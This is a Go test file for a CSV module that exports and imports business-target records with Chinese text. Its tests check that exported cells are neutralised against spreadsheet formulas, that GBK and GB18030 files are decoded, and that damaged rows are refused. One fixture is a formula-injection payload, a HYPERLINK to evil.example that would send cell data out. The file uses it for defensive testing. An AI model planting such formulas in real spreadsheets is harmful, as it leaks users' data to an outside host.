package csvio

import (
	"bytes"
	"errors"
	"reflect"
	"strings"
	"testing"

	"golang.org/x/text/encoding/simplifiedchinese"

	"branchdesk/domain/target"
)

// Cells a spreadsheet would evaluate are written with a leading quote, and
// read back as they were.
func TestExportNeutralizesFormulas(t *testing.T) {
	ts := []target.Target{{ID: "0001", Name: "武汉示范商贸有限公司", Needs: `=HYPERLINK("http://evil.example/?d="&A1,"点击")`,
		LegalRep: "@SUM(1+1)", Contact: "+86 13812345678", Operating: "-2+3", Class: target.Normal, Officer: "2001", Deadline: "2026-12-31"}}
	var buf bytes.Buffer
	if err := WriteTargets(&buf, ts, false); err != nil {
		t.Fatal(err)
	}
	s := buf.String()
	for _, want := range []string{`"'=HYPERLINK(""http://evil.example/?d=""&A1,""点击"")"`, "'@SUM(1+1)", "'+86 13812345678", "'-2+3", "0001,"} {
		if !strings.Contains(s, want) {
			t.Errorf("CSV lacks %s:\n%s", want, s)
		}
	}
	for _, line := range strings.Split(s, "\r\n") {
		for _, cell := range strings.Split(line, ",") {
			if target.FormulaStart(strings.TrimPrefix(cell, `"`)) {
				t.Errorf("cell %q starts a formula", cell)
			}
		}
	}
	got, err := ReadTargets(&buf)
	if err != nil || !reflect.DeepEqual(got, ts) {
		t.Fatalf("read back %+v, %v", got, err)
	}
}

// Excel's plain CSV on Chinese Windows is GBK: it is read as such.
func TestImportGBK(t *testing.T) {
	text := strings.Join(Header, ",") + "\r\n" +
		"0001,光谷生物城,东湖支行,武汉示范生物科技有限公司,91350100M000100Y43,C 制造业,生物试剂,小型,是,否,流动资金贷款,陈一,13812345678,正常,积极进入类,2001,2026-12-31\r\n"
	gbk, err := simplifiedchinese.GBK.NewEncoder().String(text)
	if err != nil {
		t.Fatal(err)
	}
	got, err := ReadTargets(strings.NewReader(gbk))
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != 1 || got[0].ID != "0001" || got[0].Name != "武汉示范生物科技有限公司" || got[0].Cluster != "光谷生物城" ||
		got[0].Class != target.Preferred || !got[0].WithUs || got[0].LegalRep != "陈一" {
		t.Fatalf("GBK file read as %+v", got)
	}
	// GB18030's four-byte characters (here 𠀀, U+20000) come through too.
	text = strings.Replace(text, "陈一", "陈\U00020000", 1)
	gb, _ := simplifiedchinese.GB18030.NewEncoder().String(text)
	if got, err := ReadTargets(strings.NewReader(gb)); err != nil || got[0].LegalRep != "陈\U00020000" {
		t.Fatalf("GB18030: %+v, %v", got, err)
	}
}

// A row a spreadsheet spoiled is refused with its row number, and nothing
// is imported.
func TestImportRefusesSpreadsheetDamage(t *testing.T) {
	row := func(id, name, code string) string {
		return id + ",,," + name + "," + code + ",,,,否,否,,,,,正常进入类,2001,2026-12-31\r\n"
	}
	s := strings.Join(Header, ",") + "\r\n" +
		row("0001", "甲公司", "91350100M000100Y43") +
		row("1", "乙公司", "") +
		row("0003", "Err:509", "") +
		row("0004", `"'=HYPERLINK(""x"")"`, "") +
		row("0005", "丁公司", "91350100M000100Y44")
	got, err := ReadTargets(strings.NewReader(s))
	if got != nil {
		t.Fatalf("imported %d rows of a file with bad rows", len(got))
	}
	for _, want := range []struct {
		line string
		err  error
	}{{"第 3 行", target.ErrID}, {"第 4 行", target.ErrNameSheet}, {"第 5 行", target.ErrNameFormula}, {"第 6 行", target.ErrCodeInFile}} {
		if !strings.Contains(err.Error(), want.line) || !errors.Is(err, want.err) {
			t.Errorf("want %s: %v; got %v", want.line, want.err, err)
		}
	}
	if strings.Contains(err.Error(), "第 2 行") {
		t.Errorf("the good row is refused: %v", err)
	}
}
